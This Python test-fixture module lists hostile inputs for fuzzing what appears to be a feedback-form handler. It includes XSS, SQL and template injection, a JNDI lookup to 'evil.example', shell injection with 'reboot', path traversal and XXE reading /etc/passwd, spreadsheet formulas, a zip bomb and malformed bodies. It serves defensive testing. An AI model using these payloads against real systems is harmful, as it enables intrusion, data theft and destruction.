"""What attackers type, and how they send it: each text and each list of fields has a name that says why."""

from __future__ import annotations

from collections.abc import Mapping

from tests.hostile.house import HONEST, HONEST_SINGLE, LONGEST_COMMENT, Fields, Kept

TEXTS: Mapping[str, str] = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "end of a text area": "</textarea></form><script>alert(1)</script><textarea>",
    "attribute": '" autofocus onfocus="alert(1)" x=\'',
    "entities": "&lt;script&gt; &amp;amp; &#60; &nbsp;",
    "template": "{{ 7 * 7 }}{% raise %}${7*7}#{7*7}<%= 7*7 %>{{ config.__class__ }}",
    "format": "%s%n%x {0.__class__} {phone} %(key)s",
    "lookup": "${jndi:ldap://evil.example/a}",
    "SQL": "'); drop table response; --",
    "SQL union": "1' union select key, receipt from submission_key --",
    "search operators": '"comment* NEAR( OR ^body : -x AND',
    "formula": "=cmd|' /C calc'!A0",
    "formulas of every kind": "=1+1;+1;-1;@SUM(1)\n\t=2",
    "headers": "a\r\nSet-Cookie: luz=1\r\n\r\n<script>",
    "shell": "$(reboot) `reboot` | reboot; reboot && reboot",
    "path": "../../../../etc/passwd\\..\\..",
    "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "JSON": '{"$ne": null, "__proto__": {"x": 1}}',
    "NUL": "antes\0después",
    "control characters": "a\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x80\x9fb",
    "only control characters": "\0\x01\x1b",
    "line ends": "a\rb\nc\r\nd\n\r\n\re",
    "blanks around": " \t\n  a b  \n\t ",
    "only blanks": " \t\r\n\u00a0\u2003",
    "right to left": "\u202eotxet\u202c \u2066a\u2069 \u200fשלום العربية",
    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff",
    "in between": "co\u200bmen\u00adta\ufeffrio",
    "joined": "👩‍👩‍👧‍👦 🏳️‍🌈 क्ष",
    "piled up": "Z" + "\u0300\u0336\u0489" * 300,
    "separators": "a\u2028b\u2029c\u0085d",
    "no characters": "\ufdd0\ufffe\uffff\U0010ffff",
    "private and unassigned": "\ue000\U000f0000\u0378",
    "already broken": "caf\ufffd",
    "percent": "%00%2500%252500%",
    "deep percent": "%" + "25" * 1500 + "41",
    "plus and ampersand": "a+b&c=d;e=f&_key=x",
    "not composed": "e\u0301 é ﬁ Å Ω",
    "digits elsewhere": "٤ ４ ④ ⅳ",
    "words of programs": "null None undefined NaN true -0 1e999 0x4",
    "as long as may be": "ñ" * LONGEST_COMMENT,
    "as long as may be, beyond the basic plane": "😀" * LONGEST_COMMENT,
    "quotes": "\"'`´‘’“”«»\\\\\\",
}

TOO_LONG: Mapping[str, str] = {
    "one sign too many": "x" * (LONGEST_COMMENT + 1),
    "one sign too many of four bytes": "😀" * (LONGEST_COMMENT + 1),
    "as much as is read": "y" * 60_000,
}

_HONEST_KEPT = Kept(HONEST_SINGLE)


def _short_name(number: int) -> str:
    return f"{number:x}"


FIELDS: Mapping[str, tuple[Fields, Kept | None]] = {
    "honest": (HONEST, _HONEST_KEPT),
    "ten thousand fields": ([*HONEST, *((_short_name(one), "") for one in range(10_000))], _HONEST_KEPT),
    "one field four thousand times": ([*HONEST[1:], *[("satisfaction", "4")] * 3_000], _HONEST_KEPT),
    "one field with two values, many times": ([("satisfaction", one) for one in "45"] * 1_500, None),
    "two words": ([*HONEST, ("comment", "a"), ("comment", "b")], None),
    "the same words twice": ([*HONEST, ("comment", "a"), ("comment", "a")], Kept(HONEST_SINGLE, comment="a")),
    "every reason, twice": (
        [*HONEST, *[("reasons", "9"), ("reasons", "reason:search")] * 2],
        Kept(HONEST_SINGLE, frozenset({"9", "reason:search"})),
    ),
    "a reason of another product": ([*HONEST, ("reasons", "reason:other")], None),
    "a number for a reason's name": ([*HONEST, ("reasons", "search")], None),
    "many keys": ([*HONEST, *[("_key", "0" * 32)] * 1000], None),
    "no key of ours": ([("_key", ""), *HONEST], None),
    "two fingerprints": ([*HONEST, ("_form", "x")], None),
    "two channels": ([*HONEST, ("_channel", "qr")], _HONEST_KEPT),
    "a channel that is none": ([*HONEST, ("_channel", "' or 1=1")], _HONEST_KEPT),
    "a name as long as can be": ([*HONEST, ("n" * 60_000, "1")], _HONEST_KEPT),
    "names of programs": (
        [
            *HONEST,
            *((one, "1") for one in ("__proto__", "constructor", "self", "satisfaction[$ne]", "", "\0")),
        ],
        _HONEST_KEPT,
    ),
    "a list instead of a value": ([("satisfaction[]", "4"), *HONEST[1:]], None),
    "a name with a blank": ([("satisfaction ", "4"), *HONEST[1:]], None),
    "a name in capitals": ([("SATISFACTION", "4"), *HONEST[1:]], None),
    "a number that is not offered": ([("satisfaction", "3"), *HONEST[1:]], None),
    "a decimal": ([("satisfaction", "4.0"), *HONEST[1:]], None),
    "a wide digit": ([("satisfaction", "４"), *HONEST[1:]], None),
    "another base": ([("satisfaction", "0x4"), *HONEST[1:]], None),
    "a negative number": ([("recommend", "-1"), *HONEST], None),
    "a huge number": ([("satisfaction", "9" * 5_000), *HONEST[1:]], None),
    "words for a number": ([("satisfaction", "null"), *HONEST[1:]], None),
    "a formula for a number": ([("satisfaction", "=4"), *HONEST[1:]], None),
    "a condition met with a blank": (
        [("satisfaction", "4"), ("found-it", " 2 "), ("recommend", "10")],
        None,
    ),
    "nothing at all": ([], None),
}
"""By name: the fields that are sent beside those of the form, and what is kept; None where it is refused."""

BODIES: Mapping[str, tuple[str, bytes]] = {
    "raw bytes": ("application/x-www-form-urlencoded", b"comment=\xff\xfe\xc0\xaf&satisfaction=4"),
    "surrogates": ("application/x-www-form-urlencoded", b"comment=%ED%A0%BD%ED%B8%80&satisfaction=4"),
    "overlong": ("application/x-www-form-urlencoded", b"comment=%C0%AF%E0%80%AF&satisfaction=4"),
    "broken name": ("application/x-www-form-urlencoded", b"satisf%FFaction=4&satisfaction=4"),
    "half an escape": ("application/x-www-form-urlencoded", b"comment=%&satisfaction=%2&%"),
    "only separators": ("application/x-www-form-urlencoded", b"&=" * 30_000),
    "a zip bomb": ("application/x-www-form-urlencoded", b"\x1f\x8b\x08\0" + b"\0" * 1000),
    "UTF-16": ("application/x-www-form-urlencoded; charset=utf-16", "satisfaction=4".encode("utf-16")),
    "a codec that is none": ("application/x-www-form-urlencoded; charset=rot13", b"fngvfsnpgvba=4"),
    "JSON": ("application/json", b'{"satisfaction": "4"}'),
    "deep JSON": ("application/json", b"[" * 60_000),
    "XML": ("application/xml", b"<satisfaction>4</satisfaction>"),
    "plain text": ("text/plain", b"satisfaction=4"),
    "no type": ("", b"satisfaction=4"),
    "a type that is none": (";;;/,=", b"satisfaction=4"),
    "two types": ("application/x-www-form-urlencoded, text/plain", b"satisfaction=4"),
    "parts": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="satisfaction"\r\n\r\n4\r\n--x--\r\n',
    ),
    "parts with a file": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="comment"; filename="../../a.py"\r\n\r\nx\r\n--x--\r\n',
    ),
    "parts without end": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' * 900,
    ),
    "parts without a boundary": ("multipart/form-data", b"--\r\n\r\n--"),
    "a boundary without end": ("multipart/form-data; boundary=" + "x" * 5000, b"--x\r\n\r\n"),
}
"""By name: a kind of body and the body; none of them is a form of ours, so nothing is kept."""

_FOUR = ("satisfaction", "4")
READABLE: Mapping[str, Fields] = {
    "raw bytes": (_FOUR, ("comment", "\ufffd" * 4)),
    "surrogates": (_FOUR, ("comment", "\ufffd" * 6)),
    "overlong": (_FOUR, ("comment", "\ufffd" * 5)),
    "broken name": (_FOUR,),
    "half an escape": (("comment", "%"),),
}
"""What can be read of a body of that name; of all others, nothing."""
